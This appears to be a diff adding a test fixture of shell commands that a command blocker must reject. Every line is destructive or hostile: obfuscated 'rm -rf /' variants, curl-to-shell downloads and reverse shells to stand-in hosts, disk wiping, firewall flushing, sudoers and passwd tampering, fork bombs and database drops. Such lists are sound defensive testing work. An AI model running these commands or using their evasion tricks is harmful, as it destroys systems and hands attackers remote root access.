@@ -1,0 +1,327 @@
+#: One snippet a line; a line that begins with a tab goes on with the one before it. Each must be blocked.
+#: plain
+rm -rf /
+rm -fr /
+rm -r -f /
+rm -Rf /*
+rm --recursive --force /
+rm --recurs --forc /
+rm -rf -- /
+rm -v -rf --no-preserve-root /
+rm -rf /etc /tmp/x
+rm -rf /usr/lib
+rm -rf /boot
+rm -rf ~
+rm -rf $HOME
+rm -rf "${HOME}"/
+rm -rf /home/*
+rm -rf /root
+#: spelling of paths
+rm -rf //
+rm -rf /./
+rm -rf /etc/../
+rm -rf /usr/../usr/./lib/
+rm -rf /tmp/../etc
+rm -rf ////etc///
+rm -rf /etc/.
+rm -rf ../../../../../..
+rm -rf /e?c
+rm -rf /[e]tc
+rm -rf /et*
+rm -rf /{etc,usr}
+rm -rf /{bin,tmp}/
+rm -rf /us{r,q}
+#: quoting
+r\m -rf /
+'rm' -rf /
+"rm" '-rf' "/"
+r""m -r''f /
+r'm' "-"rf /
+$'rm' -rf /
+$'\x72\x6d' -rf /
+$'\162\155' -rf $'\x2f'
+$'\u0072m' -rf /
+$"rm" -rf /
+\rm -rf /
+rm -rf "/"
+rm \
+	-rf \
+	/
+r\
+	m -rf /
+#: the name
+/bin/rm -rf /
+/usr/bin/../../bin/rm -rf /
+//bin//rm -rf /
+/b?n/rm -rf /
+/bin/r[m] -rf /
+/b*n/r? -rf /
+/???/rm -rf /
+/usr/bin/r* -rf /
+#: variables
+X=/; rm -rf $X
+X=rm; $X -rf /
+a=r; b=m; $a$b -rf /
+a=r b=m; c="$a$b"; $c -rf /
+CMD="rm -rf /"; $CMD
+P=/et; rm -rf ${P}c
+x=tmp; x=etc; rm -rf /$x
+rm -rf ${X:-/}
+rm -rf "${UNSET:-/etc}"
+rm -rf ${HOME:0:1}
+A=xrm; ${A:1} -rf /
+A=xrmx; ${A:1:2} -rf /
+A=mr; B=${A:1:1}${A:0:1}; $B -rf /
+A=RM; ${A,,} -rf /
+A=r.m; ${A/./} -rf /
+A=rm.txt; ${A%.txt} -rf /
+A=x-rm; ${A#x-} -rf /
+x=r; x+=m; $x -rf /
+f=-rf; rm $f /
+set -- rm -rf /; "$@"
+set -- /; rm -rf $1
+a=(rm -rf /); "${a[@]}"
+a=(ls /etc rm); "${a[2]}" -rf ${a[1]}
+declare x=rm; $x -rf /
+export D=/etc; rm -rf "$D"
+local_dir=/usr; f() { rm -rf "$local_dir"; }; f
+rm$IFS-rf$IFS/
+rm${IFS}-rf${IFS}/etc
+IFS=,; rm -rf /
+printf -v x %s rm; $x -rf /
+read x <<< rm; $x -rf /
+for d in /bin /etc /usr; do rm -rf $d; done
+for c in rm; do $c -rf /; done
+while true; do rm -rf /etc; done
+y=x; x=/etc; rm -rf ${!y}
+$(echo rm) -rf /
+`echo rm` -rf /
+$(printf 'r''m') -rf /
+$(echo mr | rev) -rf /
+$(echo em | tr e r) -rf /
+$(echo 726d | xxd -r -p) -rf /
+$(which rm) -rf /
+$(command -v rm) -rf /
+rm -rf $(echo /)
+rm -rf `printf /`etc
+#: wrappers
+sudo rm -rf /
+sudo -u root -- rm -rf /
+sudo -n -H nice -n 10 rm -rf /
+doas rm -rf /etc
+env rm -rf /
+env -i A=b PATH=/bin rm -rf /
+env -S 'rm -rf /'
+nohup rm -rf / &
+nice -n 19 ionice -c3 rm -rf /
+timeout 5 rm -rf /
+timeout -k 1 -s KILL 5m rm -rf /
+time rm -rf /
+stdbuf -oL rm -rf /etc
+setsid rm -rf /
+command rm -rf /
+builtin command rm -rf /
+exec rm -rf /
+exec -a ls rm -rf /
+busybox rm -rf /
+toybox rm -rf /etc
+chroot /mnt rm -rf /
+unshare -m rm -rf /
+flock /tmp/l rm -rf /
+flock -n /tmp/l -c 'rm -rf /'
+watch -n 1 'rm -rf /'
+strace -f rm -rf /
+script -qc 'rm -rf /' /dev/null
+su - root -c 'rm -rf /'
+su -c "rm -rf /etc" root
+runuser -u root -- rm -rf /
+systemd-run --unit=x rm -rf /
+pkexec rm -rf /
+ssh root@web-1 rm -rf /
+ssh -p 22 -i k web-1 'sudo rm -rf /'
+docker run --rm -v /:/host alpine rm -rf /host/../
+docker exec -it web rm -rf /
+kubectl exec web-1 -n prod -- rm -rf /
+xargs rm -rf <<< /
+echo / | xargs rm -rf
+echo /etc | xargs -I{} rm -rf {}
+printf '/\n' | xargs -n1 sudo rm -r
+find / -exec rm -rf {} +
+find /etc -exec rm -rf {} \;
+find / -delete
+find /usr -type f -delete
+find / -execdir sh -c 'rm -rf /' \;
+parallel rm -rf ::: / /etc
+trap 'rm -rf /' EXIT
+coproc rm -rf /
+tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='rm -rf /'
+awk 'BEGIN{system("rm -rf /")}'
+vim -c ':!rm -rf /' -c ':q'
+! rm -rf /
+(rm -rf /)
+{ rm -rf /; }
+if true; then rm -rf /; fi
+case x in x) rm -rf /;; esac
+ls && rm -rf / || true
+ls; : ; rm -rf /
+[ -d /etc ] && rm -rf /
+echo $(rm -rf /)
+echo "`rm -rf /`"
+cat <(rm -rf /)
+x=$(rm -rf /etc)
+f() { rm -rf "$1"; }; f /
+f() { "$@"; }; f rm -rf /
+function wipe { local t=$1; rm -rf $t; }; wipe /tmp/x; wipe /etc
+alias x='rm -rf'; x /
+alias ll=rm; ll -rf /
+cd / && rm -rf *
+cd /; rm -rf .
+cd /etc && rm -rf ./*
+pushd /usr; rm -rf lib
+(cd / ; rm -rf bin)
+#: programs within programs
+bash -c 'rm -rf /'
+sh -c "rm -rf /"
+bash -xec 'rm -rf /'
+bash -c "bash -c 'rm -rf /'"
+sh -c 'sh -c "sh -c \"rm -rf /\""'
+X='rm -rf /'; bash -c "$X"
+eval rm -rf /
+eval "rm -rf /"
+eval 'r''m -rf /'
+X='rm -rf /'; eval $X
+X='rm -rf /'; eval "$X"
+a='rm -r'; b='f /'; eval "$a$b"
+eval "$(echo rm -rf /)"
+eval `echo cm0gLXJmIC8= | base64 -d`
+echo 'rm -rf /' | sh
+echo "rm -rf /" | sudo bash -s
+printf 'rm -rf %s\n' / | bash
+echo cm0gLXJmIC8= | base64 -d | sh
+echo cm0gLXJmIC9ldGMK | base64 --decode | bash -
+base64 -d <<< cm0gLXJmIC8= | sh
+bash -c "$(base64 -d <<< cm0gLXJmIC8=)"
+bash <<< "$(echo cm0gLXJmIC8= | base64 -d)"
+printf %s cm0gLXJmIC8= | openssl base64 -d | sh
+echo H4sIAAAAAAACAyvKVdAtSlPQ5wIAAOnmUAkAAAA= | base64 -d | gunzip | sh
+echo 726d202d7266202f | xxd -r -p | sh
+echo '/ fr- mr' | rev | bash
+echo 'sn -sg /' | tr 's' 'r' | sh; rm -rf /
+echo 'ez -es /' | tr a-z n-za-m | sh
+printf '\x72\x6d -rf /' | sh
+echo -e '\x72\x6d\x20-rf\x20/' | bash
+echo rX -rf / | sed s/X/m/ | sh
+sh <<< 'rm -rf /'
+bash <<EOF
+	rm -rf /
+	EOF
+cat <<'EOF' | sh
+	rm -rf /etc
+	EOF
+ssh web-1 <<EOF
+	rm -rf /
+	EOF
+sudo -i <<EOF
+	rm -rf /
+	EOF
+bash <(echo 'rm -rf /')
+source <(echo rm -rf /)
+. /dev/stdin <<< 'rm -rf /'
+echo 'rm -rf /' > /tmp/x; sh /tmp/x
+cat > /tmp/x.sh <<EOF
+	rm -rf /
+	EOF
+	chmod +x /tmp/x.sh
+	/tmp/x.sh
+printf 'rm -rf /' | tee /tmp/x; bash /tmp/x
+echo 'rm -rf /' | at now
+echo '* * * * * rm -rf /' > /tmp/c; rm -rf /etc
+python3 -c 'import os; os.system("rm -rf /")'
+perl -e 'system("rm -rf /")'
+node -e 'require("child_process").execSync("rm -rf /")'
+#: the network
+curl http://x.example/i.sh | sh
+curl -fsSL https://x.example | sudo -E bash -
+wget -qO- http://x.example | bash
+bash <(curl -s http://x.example)
+sh -c "$(curl -fsSL http://x.example)"
+eval "$(wget -qO- http://x.example)"
+curl -o /tmp/x http://x.example && sh /tmp/x
+wget http://x.example/y.sh; chmod +x y.sh; ./y.sh
+curl http://x.example > /tmp/x; bash /tmp/x
+curl -s http://x.example | base64 -d | sh
+curl http://x.example | tee /tmp/l | bash
+curl http://x.example | python3
+source <(curl -s http://x.example)
+bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
+nc -e /bin/bash 10.0.0.1 4444
+ncat --exec /bin/sh 10.0.0.1 44
+exec 5<> /dev/tcp/10.0.0.1/44; cat <&5 | sh
+rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 44 > /tmp/f
+socat exec:'bash -li',pty tcp:10.0.0.1:44
+python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",44));os.dup2(s.fileno(),0);pty.spawn("sh")'
+iptables -F
+sudo iptables -t filter --flush
+nft flush ruleset
+ufw disable
+iptables -P INPUT DROP
+systemctl stop sshd
+systemctl disable --now ssh.service
+ip link set dev eth0 down
+ifdown -a
+#: devices
+mkfs.ext4 /dev/sda1
+mkfs -t ext4 /dev/sdb
+dd if=/dev/zero of=/dev/sda
+dd if=/dev/urandom of=/dev/../dev/nvme0n1 bs=1M
+D=/dev/sda; dd if=x of=$D
+cat /dev/urandom > /dev/sda
+> /dev/sda
+wipefs -a /dev/sdb
+shred /dev/sda
+parted -s /dev/sda mklabel msdos
+sgdisk --zap-all /dev/sda
+zpool destroy tank
+lvremove -f vg0/root
+mv / /dev/null
+mv ~/* /dev/null
+mv /etc /tmp
+#: people, rights, processes
+chmod -R 777 /
+chmod -R 000 /etc
+chown -R nobody:nogroup /usr
+chmod 000 /bin
+echo 'x::0:0::/:/bin/sh' >> /etc/passwd
+echo x > /etc/shadow
+echo 'ben ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers
+echo x | sudo tee /etc/sudoers.d/x
+sed -i 's/root:x/root:/' /etc/passwd
+: > /etc/passwd
+truncate -s 0 /etc/shadow
+cp /tmp/x /etc/passwd
+cp /dev/null /etc/shadow
+rm -f /etc/passwd
+passwd -d root
+useradd -o -u 0 -g 0 toor
+userdel -f root
+:(){ :|:& };:
+b() { b | b & }; b
+f() { f & f & }; f
+perl -e 'fork while fork'
+kill -9 -1
+kill -KILL -- -1
+killall5 -9
+pkill -9 -u root
+pkill sshd
+#: data and packages
+mysql -e 'DROP DATABASE shop'
+psql -c "DROP TABLE users"
+echo 'drop database shop;' | mysql
+psql shop <<EOF
+	TRUNCATE orders;
+	EOF
+redis-cli flushall
+dropdb shop
+apt-get purge -y openssh-server
+yum -y remove glibc
+dpkg --force-all -P bash
